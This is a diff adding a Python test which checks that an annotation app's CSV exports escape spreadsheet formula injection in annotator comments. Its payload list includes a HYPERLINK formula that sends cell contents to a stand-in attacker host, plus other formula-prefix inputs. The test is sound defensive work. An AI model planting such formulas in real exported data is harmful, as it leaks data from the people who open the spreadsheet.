@@ -112,3 +112,39 @@ def test_api_export_for_pipelines(client, alice, admin_user):
     assert r["Content-Type"].startswith("text/csv") and b"".join(r.streaming_content).decode().startswith("campaign,item,qid")
     r = client.get(f"/api/campaigns/{campaign.pk}/export/?format=xml")
     assert r.status_code == 400 and "format must be one of csv, jsonl" in r.content.decode()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]
+
+
+def _csv_table(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_formula_comments_come_out_as_text_from_every_campaign_csv(client, alice, admin_user):
+    """An annotator's ``=HYPERLINK(...)`` comment is a text cell (leading ``'``) in the
+    command's CSV, the staff download and the API download; grades stay numbers."""
+    campaign = relevance([alice], n=len(FORMULAS))
+    for comment in FORMULAS:
+        lease = services.assignment_next(campaign=campaign, user=alice)
+        services.assignment_submit(assignment=lease, user=alice, grade=2, comment=comment)
+    stored = set(Assignment.objects.filter(item__campaign=campaign).values_list("comment", flat=True))
+    assert any(c.startswith("=HYPERLINK") for c in stored)
+
+    client.force_login(admin_user)
+    tables = {
+        "command": _csv_table(export_lines(campaign, "csv")),
+        "page": _csv_table(b"".join(client.get(f"/annotation/campaigns/{campaign.pk}/export/?format=csv").streaming_content).decode()),
+        "api": _csv_table(b"".join(client.get(f"/api/campaigns/{campaign.pk}/export/?format=csv").streaming_content).decode()),
+    }
+    for where, table in tables.items():
+        assert len(table) == len(FORMULAS), where
+        comments = {row["comment"] for row in table}
+        # every comment is there, each behind one apostrophe a spreadsheet does not show
+        assert comments == {"'" + c if c.startswith(("=", "+", "-", "@", "\t", "\r")) else c for c in stored}, where
+        assert not [v for row in table for v in row.values() if v and v[0] in "=+-@\t\r"], where
+        assert {row["grade"] for row in table} == {"2"}, where
+
+    # JSON Lines is not a spreadsheet format: the text is as written there.
+    rows = [json.loads(line) for line in export_lines(campaign, "jsonl").splitlines()]
+    assert {r["comment"] for r in rows} == stored
